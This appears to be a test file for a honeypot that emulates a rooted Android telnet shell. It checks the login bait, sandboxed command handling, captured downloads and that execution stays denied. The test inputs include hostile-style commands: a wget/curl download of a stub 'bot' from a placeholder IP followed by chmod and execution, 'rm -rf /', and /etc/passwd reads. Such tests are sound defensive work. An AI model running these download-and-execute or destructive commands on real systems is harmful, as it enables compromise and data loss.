import os
import socket

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from conftest import FakeClock, recv_until, tree_digest, wait_for
from droidpot import shell, vfs
from droidpot.model import SessionTranscript
from droidpot.netio import TcpService
from droidpot.shell import (
    CredentialPolicy, Fetcher, FetchError, LoginOutcome, ShellSession, ShellTrap, handle_login,
    parse_mode,
)
from droidpot.store import ArtifactStore, sha256_hex

BOT = b"#!/system/bin/sh\necho pwned\n"
URL = "http://203.0.113.9/bot"


def make_session(base_image, stub=None, clock=None):
    t = SessionTranscript("sess0001", "shell", 1, "10.0.0.9", 40000, 22, 0)
    clock = clock or FakeClock()
    sh = ShellSession(vfs.OverlayFs(base_image, clock=clock), t,
                      fetcher=Fetcher("stub", stub or {URL: BOT}), store=ArtifactStore(), clock=clock)
    return sh, t


# -- login policy --

def test_login_policy():
    p = CredentialPolicy()
    assert handle_login(("root", "1234"), p, 1) is LoginOutcome.GRANTED
    assert handle_login(("root", "root"), p, 5) is LoginOutcome.GRANTED
    assert handle_login(("admin", "x"), p, 1) is LoginOutcome.REJECTED
    assert handle_login(("admin", "x"), p, 3) is LoginOutcome.GRANTED_BY_ATTEMPT_QUOTA
    assert handle_login(("admin", "x"), p, 4) is LoginOutcome.REJECTED
    assert handle_login(("admin", "x"), CredentialPolicy(accept_after_attempts=0), 3) is LoginOutcome.REJECTED
    with pytest.raises(ValueError):
        handle_login(("root", "1234"), p, 0)


@given(st.text(max_size=8), st.text(max_size=8), st.integers(1, 10), st.integers(0, 5))
def test_login_policy_property(user, password, index, quota):
    p = CredentialPolicy((("root", "1234"),), quota)
    outcome = handle_login((user, password), p, index)
    member = (user, password) == ("root", "1234")
    assert outcome.granted == (member or index == quota)
    if member:
        assert outcome is LoginOutcome.GRANTED


# -- interpreter --

@pytest.mark.parametrize("line, output, status", [
    ("uname -a", "Linux localhost 2.6.32 #1 PREEMPT Mon Nov 5 13:41:23 CST 2012 armv7l", 0),
    ("uname -m", "armv7l", 0),
    ("id", "uid=0(root) gid=0(root) groups=0(root)", 0),
    ("whoami", "root", 0),
    ("hostname", "android", 0),
    ("cd /sdcard; pwd", "/mnt/sdcard", 0),
    ("cat /etc/hostname", "android", 0),
    ("nmap -sS 10.0.0.0/8", "nmap: command not found", 127),
    ("cat /nope", "cat: /nope: No such file or directory", 1),
    ("false_cmd || echo fallback", "false_cmd: command not found\nfallback", 0),
    ("echo a && echo b; echo c", "a\nb\nc", 0),
    ("echo 'unterminated", "sh: syntax error: unterminated quoted string", 2),
    ("busybox id -u", None, 0),
    ("rm -rf /", "rm failed for /, Operation not permitted", 1),
])
def test_commands(base_image, line, output, status):
    sh, t = make_session(base_image)
    got, code = sh.interpret(line)
    if output is not None:
        assert got == output
    assert code == status
    assert t.commands[-1] == (line, got, code)


def test_download_chmod_execute_is_denied(base_image):
    sh, t = make_session(base_image)
    sh.interpret("cd /data/local/tmp")
    out, status = sh.interpret(f"wget {URL}")
    assert status == 0 and "100%" in out
    assert sh.fs.resolve("/data/local/tmp/bot").content == BOT
    assert sh.interpret("chmod +x bot") == ("", 0)
    assert sh.fs.resolve("bot").mode & 0o111
    assert sh.interpret("./bot") == ("sh: ./bot: permission denied", 126)
    assert sh.interpret("sh bot") == ("sh: bot: permission denied", 126)
    assert sh.interpret("/data/local/tmp/bot &") == ("sh: /data/local/tmp/bot: permission denied", 126)
    digest = sha256_hex(BOT)
    assert t.artifacts == [digest]
    assert t.downloads == [{"url": URL, "result": "ok", "digest": digest}]
    assert sh.store.verify(digest)
    assert [r["origin"] for r in sh.store.references(digest)] == [{"kind": "shell_download", "url": URL}]


def test_wget_output_name_and_curl(base_image):
    sh, t = make_session(base_image)
    assert sh.interpret(f"wget -O /tmp/x {URL}")[1] == 0
    assert sh.fs.resolve("/tmp/x").content == BOT
    assert sh.interpret(f"curl -o /tmp/y {URL}")[1] == 0
    assert sh.fs.resolve("/tmp/y").content == BOT
    out, status = sh.interpret(f"curl {URL}")
    assert status == 0 and "echo pwned" in out
    assert len(t.artifacts) == 3       # one capture per download, same digest
    out, status = sh.interpret("wget http://198.51.100.1/none")
    assert status != 0
    assert t.downloads[-1]["result"] == "unreachable"


def test_replacing_system_binary_does_not_make_it_runnable(base_image):
    sh, _ = make_session(base_image)
    sh.interpret(f"wget -O /system/bin/id {URL}")
    assert sh.interpret("id")[1] == 126


def test_fetcher_modes():
    with pytest.raises(FetchError) as e:
        Fetcher("off").fetch(URL)
    assert e.value.kind == "unreachable"
    with pytest.raises(FetchError) as e:
        Fetcher("stub", {URL: b"x" * 10}, max_bytes=5).fetch(URL)
    assert e.value.kind == "oversize"
    with pytest.raises(FetchError) as e:
        Fetcher("stub").fetch("file:///etc/passwd")
    assert e.value.kind == "invalid"
    with pytest.raises(FetchError) as e:
        Fetcher("live", allowlist=["*.example.org"]).fetch("http://203.0.113.1/x")
    assert e.value.kind == "unreachable"
    with pytest.raises(ValueError):
        Fetcher("proxy")


def test_parse_mode():
    assert parse_mode("755", 0) == 0o755
    assert parse_mode("+x", 0o644) == 0o755
    assert parse_mode("u+x", 0o644) == 0o744
    assert parse_mode("go-w", 0o777) == 0o755
    assert parse_mode("a=r", 0o777) == 0o444
    with pytest.raises(ValueError):
        parse_mode("q+z", 0)


def test_redirects_and_pipes_stay_in_overlay(base_image):
    sh, _ = make_session(base_image)
    sh.interpret("echo one > /tmp/f; echo two >> /tmp/f")
    assert sh.fs.resolve("/tmp/f").content == b"one\ntwo\n"
    assert sh.interpret("cat /nope 2>/dev/null") == ("", 1)
    assert sh.interpret("cat /etc/hostname | cat") == ("android", 0)


def test_identical_input_gives_identical_output(base_image):
    script = ["id", "cd /sdcard", "ls -la", f"wget {URL}", "chmod 777 bot", "./bot", "ps", "w",
              "uptime", "cat /proc/cpuinfo", "history", "exit"]

    def run():
        sh, t = make_session(base_image, clock=FakeClock(1400000000.0))
        return [sh.interpret(line) for line in script]

    assert run() == run()


WORDS = ["ls", "cat", "cd", "rm", "-rf", "cp", "mv", "mkdir", "-p", "touch", "chmod", "777",
         "echo", ">", ">>", "|", ";", "&&", "wget", "curl", "-O", "tar", "xzf", "unzip", "sh", "-c",
         "/", "..", "../../..", "/etc/passwd", "/tmp/x", "x", "$HOME", "*", "~", "/proc/self/root",
         "busybox", "su", "./x", "2>&1", "'a b'", "\"q\"", "\\", "\x00", "/dev/null", "ls -la /"]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.lists(st.sampled_from(WORDS), min_size=1, max_size=8).map(" ".join), max_size=12))
def test_command_fuzz_never_touches_host(base_image, tmp_path, monkeypatch, lines):
    (tmp_path / "x").write_text("host file")
    monkeypatch.chdir(tmp_path)
    watched = [str(tmp_path), os.path.dirname(shell.__file__)]
    before = [tree_digest(p) for p in watched]
    sh, _ = make_session(base_image)
    for line in lines:
        out, status = sh.interpret(line)
        assert isinstance(out, str) and isinstance(status, int)
        assert status != 139, f"interpreter crashed on {line!r}"
    assert [tree_digest(p) for p in watched] == before
    assert (tmp_path / "x").read_text() == "host file"


# -- telnet front end --

@pytest.fixture
def shell_trap(recorder, base_image):
    store = ArtifactStore()
    trap = ShellTrap(recorder, base_image, store, Fetcher("stub", {URL: BOT}), idle_timeout=5)
    svc = TcpService("shell", "127.0.0.1", 0, trap.handle).start()
    yield svc, recorder, store
    svc.stop()


def _converse(port, lines, final_marker=None):
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        buf = recv_until(s, b"login: ")
        for text, marker in lines:
            s.sendall(text.encode() + b"\r\n")
            buf += recv_until(s, marker.encode())
        return buf.decode("utf-8", "replace"), s.getsockname()[1]


def test_login_attempts_are_all_captured_once(shell_trap):
    svc, recorder, _ = shell_trap
    text, sport = _converse(svc.port, [
        ("admin", "Password: "), ("admin", "login: "),
        ("root", "Password: "), ("toor", "login: "),
        ("guest", "Password: "), ("guest", "# "),            # third attempt: quota
        ("uname -a", "# "), ("exit", ""),
    ])
    assert text.count("Login incorrect") == 2
    assert "Linux localhost 2.6.32" in text
    assert "root@android:/ # " in text
    assert wait_for(lambda: recorder.transcript_log.read())
    (rec,) = recorder.transcript_log.read()
    assert rec["src_port"] == sport
    assert [(a["username"], a["password"], a["outcome"]) for a in rec["login_attempts"]] == [
        ("admin", "admin", "rejected"), ("root", "toor", "rejected"),
        ("guest", "guest", "granted_by_attempt_quota")]
    assert [c["input"] for c in rec["commands"]] == ["uname -a", "exit"]


def test_rejected_connection_still_yields_transcript(shell_trap):
    svc, recorder, _ = shell_trap
    with socket.create_connection(("127.0.0.1", svc.port), timeout=5) as s:
        recv_until(s, b"login: ")
        s.sendall(b"x\r\n")
        recv_until(s, b"Password: ")
    assert wait_for(lambda: recorder.transcript_log.read())
    (rec,) = recorder.transcript_log.read()
    assert rec["login_attempts"] == []
    assert rec["commands"] == []
